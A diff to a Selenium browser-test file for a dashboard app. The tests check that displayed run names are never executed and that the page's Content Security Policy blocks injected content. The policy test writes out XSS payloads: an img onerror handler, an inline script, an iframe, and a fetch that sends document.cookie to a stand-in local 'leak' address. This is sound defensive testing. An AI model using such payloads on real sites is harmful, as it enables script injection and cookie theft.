@@ -11,7 +11,7 @@ from selenium.webdriver.common.by import By
 
 from dashboard.app import create_app
 from dashboard.serving import Serving
-from tests.dashboard.conftest import faults, served, until
+from tests.dashboard.conftest import faults, load, served, until, visit
 from tests.dashboard.traces import decode
 from tests.thorough import EVERYTHING
 from tracer import formats
@@ -49,9 +49,6 @@ def test_names_are_shown_and_nothing_of_them_is_executed(browser, runs):
     browser.get("about:blank")
     faults(browser)
     with served(runs) as address:
-        browser.get(f"{address}graph/?run={IMAGE}")
-        until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
-        assert browser.execute_script("return window.hacked") is None
         keys = sorted(name.replace("/", "|") for name in NAMES)
         for shown in [keys, *([[key] for key in keys] if EVERYTHING else ())]:
             browser.get(f"{address}?{_query(*shown)}")
@@ -61,6 +58,9 @@ def test_names_are_shown_and_nothing_of_them_is_executed(browser, runs):
                 browser.find_elements(By.CSS_SELECTOR, "#page img, #page b[onclick], #page a[href^=javascript]") == []
             )
             assert browser.execute_script("return window.hacked") is None
+        visit(browser, f"{address}graph/?run={IMAGE}")
+        until(browser, lambda: IMAGE in browser.find_element(By.ID, "nothing").text, "that it has no graph")
+        assert browser.execute_script("return window.hacked") is None
         assert faults(browser) == []
         browser.get("about:blank")
 
@@ -72,26 +72,25 @@ def _query(*keys):
 
 
 @pytest.mark.browser
-def test_the_policy_stops_what_would_get_through(browser, runs):
-    with served(runs) as address:
-        browser.get(f"{address}graph/")
-        until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
-        faults(browser)
-        browser.execute_script("""
-            const page = document.getElementById("page");
-            page.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.hacked=1'>");
-            page.append(Object.assign(document.createElement("script"), {textContent: "window.hacked=1"}));
-            page.append(Object.assign(document.createElement("img"), {src: "http://127.0.0.1:9/x.png"}));
-            page.append(Object.assign(document.createElement("iframe"), {src: location.href}));
-            fetch("http://127.0.0.1:9/leak?" + document.cookie).catch(() => null);
-        """)
-        log = []
-        until(browser, lambda: log.extend(faults(browser)) or len(log) >= 5, "violations")
-        assert browser.execute_script("return window.hacked") is None
-        kinds = {kind for line in log for kind in re.findall("(script-src|img-src|connect-src|default-src)", line)}
-        assert {"script-src", "img-src", "connect-src"} <= kinds
-        browser.get("about:blank")
-        faults(browser)
+def test_the_policy_stops_what_would_get_through(browser, filled):
+    load(browser, f"{filled}graph/")
+    until(browser, lambda: browser.find_elements(By.CSS_SELECTOR, "#page nav"), "the page")
+    faults(browser)
+    browser.execute_script("""
+        const page = document.getElementById("page");
+        page.insertAdjacentHTML("beforeend", "<img src='data:x' onerror='window.hacked=1'>");
+        page.append(Object.assign(document.createElement("script"), {textContent: "window.hacked=1"}));
+        page.append(Object.assign(document.createElement("img"), {src: "http://127.0.0.1:9/x.png"}));
+        page.append(Object.assign(document.createElement("iframe"), {src: location.href}));
+        fetch("http://127.0.0.1:9/leak?" + document.cookie).catch(() => null);
+    """)
+    log = []
+    until(browser, lambda: log.extend(faults(browser)) or len(log) >= 5, "violations")
+    assert browser.execute_script("return window.hacked") is None
+    kinds = {kind for line in log for kind in re.findall("(script-src|img-src|connect-src|default-src)", line)}
+    assert {"script-src", "img-src", "connect-src"} <= kinds
+    browser.get("about:blank")
+    faults(browser)
 
 
 def test_an_upload_cut_off_in_the_middle_of_a_slice_leaves_the_server_as_it_was(tmp_path):
